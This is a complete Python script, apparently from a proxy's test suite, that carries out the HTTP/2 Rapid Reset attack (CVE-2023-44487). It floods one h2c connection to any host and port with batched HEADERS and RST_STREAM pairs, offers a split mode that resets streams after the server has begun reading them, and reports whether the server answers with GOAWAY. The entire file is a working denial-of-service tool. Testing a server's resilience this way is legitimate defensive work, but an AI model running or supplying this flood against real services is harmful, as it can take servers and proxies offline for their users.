"""HTTP/2 Rapid Reset (CVE-2023-44487) against a proxy: PAIRS HEADERS + RST_STREAM pairs on one
h2c connection, as fast as the socket takes them, written a batch of pairs at a time (so that
most streams are reset in the same read as their HEADERS, as in the attacks seen in 2023).

    python3 rapid_reset.py HOST PORT PAIRS [--per-write N] [--split] [--path PATH]

With `split`, each batch's HEADERS go in one write and their RST_STREAMs in another a few
milliseconds later, so that the server has read (and may have started) the requests before it
sees them reset.

Prints one JSON object: pairs sent, whether and with which error code the server sent GOAWAY,
and the seconds it took. Needs the `h2` package (./test installs it into its virtual environment).
"""
import argparse
import json
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main(host, port, pairs, per_write=100, split=False, path="/attack"):
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    sent, goaway, closed, started = 0, None, False, time.monotonic()
    headers = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", f"{host}:{port}")]

    def read(blocking):
        nonlocal goaway, closed
        sock.setblocking(blocking)
        try:
            data = sock.recv(65536)
        except (BlockingIOError, InterruptedError):
            return
        except (ConnectionResetError, BrokenPipeError):
            closed = True
            return
        finally:
            sock.setblocking(True)
        if not data:
            closed = True
            return
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code)

    try:
        while sent < pairs and goaway is None and not closed:
            batch = []
            for _ in range(min(per_write, pairs - sent)):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers, end_stream=True)
                batch.append(stream)
                if not split:
                    connection.reset_stream(stream)
                sent += 1
            if split:
                sock.sendall(connection.data_to_send())
                time.sleep(0.005)
                for stream in batch:
                    connection.reset_stream(stream)
            sock.sendall(connection.data_to_send())
            read(False)
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        closed = True
    # What the server says last: its GOAWAY, or the close.
    sock.settimeout(5)
    deadline = time.monotonic() + 5
    while goaway is None and not closed and time.monotonic() < deadline:
        try:
            read(True)
        except (socket.timeout, h2.exceptions.ProtocolError):
            break
    print(json.dumps({"pairs_sent": sent, "goaway_error_code": goaway, "closed": closed,
                      "seconds": round(time.monotonic() - started, 3)}))


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("pairs", type=int)
    parser.add_argument("--per-write", type=int, default=100)
    parser.add_argument("--split", action="store_true")
    parser.add_argument("--path", default="/attack")
    args = parser.parse_args()
    main(args.host, args.port, args.pairs, args.per_write, args.split, args.path)
